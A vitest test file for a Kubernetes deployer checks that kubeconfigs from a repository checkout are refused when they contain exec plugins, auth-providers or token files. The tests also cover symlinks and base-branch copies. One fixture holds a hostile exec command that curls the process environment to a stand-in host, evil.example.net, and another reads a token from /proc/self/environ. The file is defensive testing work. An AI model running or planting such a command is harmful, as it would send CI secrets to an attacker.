import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { resolveKubeconfig } from '../../../src/credentials/kubeconfig.js';
import { testContext } from './local-server.js';

// Rule 3 of the threat model: a kubeconfig from the repository never runs a command or reads a runner file.
const root = mkdtempSync(path.join(tmpdir(), 'k8deployer-kc-repo-'));
const workspace = path.join(root, 'workspace');
const outside = path.join(root, 'runner');
mkdirSync(workspace);
mkdirSync(outside);
afterAll(() => rmSync(root, { recursive: true, force: true }));

function kubeconfig(user: string): string {
  return `apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: 'https://127.0.0.1:6443', insecure-skip-tls-verify: true}}]
users:
- name: ok
  user: {token: fine}
- name: hostile
  user:
${user}
contexts: [{name: x, context: {cluster: c, user: ok}}]
current-context: x
`;
}

const hostileUsers = {
  'an exec plugin': [
    '    exec: {apiVersion: client.authentication.k8s.io/v1, command: sh, args: [-c, "curl evil.example.net -d @/proc/self/environ"]}',
    /runs the exec plugin sh/,
  ],
  'an auth-provider': ['    auth-provider: {name: oidc, config: {client-id: x}}', /uses the oidc auth-provider/],
  'a token file': ['    token-file: /proc/self/environ', /reads its token from a file/],
} as const;

const ctx = () => testContext({ env: { GITHUB_WORKSPACE: workspace } }).ctx;

describe('kubeconfig from a repository file', () => {
  for (const [what, [user, message]] of Object.entries(hostileUsers)) {
    it(`refuses ${what} in any user of a file inside the checkout, even one the context does not select`, async () => {
      const file = path.join(workspace, `${what.replace(/ /g, '-')}.kubeconfig`);
      writeFileSync(file, kubeconfig(user));
      await expect(resolveKubeconfig({ provider: 'kubeconfig', path: file }, ctx())).rejects.toThrow(message);
      await expect(resolveKubeconfig({ provider: 'kubeconfig', path: file }, ctx())).rejects.toThrow(
        /users\[\d+\] \(hostile\) .*; a kubeconfig from the repository may not run commands or read files/,
      );
    });
  }

  it('refuses through a relative path and through a symlink into the checkout', async () => {
    const file = path.join(workspace, 'exec.kubeconfig');
    writeFileSync(file, kubeconfig(hostileUsers['an exec plugin'][0]));
    const link = path.join(outside, 'link.kubeconfig');
    symlinkSync(file, link);
    await expect(resolveKubeconfig({ provider: 'kubeconfig', path: link }, ctx())).rejects.toThrow(/exec plugin/);
    await expect(
      resolveKubeconfig({ provider: 'kubeconfig', path: path.relative(process.cwd(), file) }, ctx()),
    ).rejects.toThrow(/exec plugin/);
  });

  it('refuses a base-branch copy marked fromRepository even though it lives outside the checkout', async () => {
    const file = path.join(outside, 'base-copy.kubeconfig');
    writeFileSync(file, kubeconfig(hostileUsers['an exec plugin'][0]));
    await expect(
      resolveKubeconfig({ provider: 'kubeconfig', path: file, fromRepository: true } as never, ctx()),
    ).rejects.toThrow(/exec plugin/);
  });

  it('refuses special files instead of reading them', async () => {
    await expect(resolveKubeconfig({ provider: 'kubeconfig', path: workspace }, ctx())).rejects.toThrow(
      /not a regular file/,
    );
  });

  it('a kubeconfig of the runner (outside the checkout, e.g. written by a setup step) may use exec as kubectl would', async () => {
    const file = path.join(outside, 'config');
    writeFileSync(file, kubeconfig(hostileUsers['an exec plugin'][0]));
    const credentials = await resolveKubeconfig({ provider: 'kubeconfig', path: file }, ctx());
    expect(credentials.server).toBe('https://127.0.0.1:6443');
    await credentials.dispose();
  });

  it('a plain repository kubeconfig (token, CA) still works', async () => {
    const file = path.join(workspace, 'plain.kubeconfig');
    writeFileSync(file, kubeconfig('    token: also-fine'));
    const credentials = await resolveKubeconfig({ provider: 'kubeconfig', path: file }, ctx());
    expect(credentials.server).toBe('https://127.0.0.1:6443');
    await credentials.dispose();
  });
});
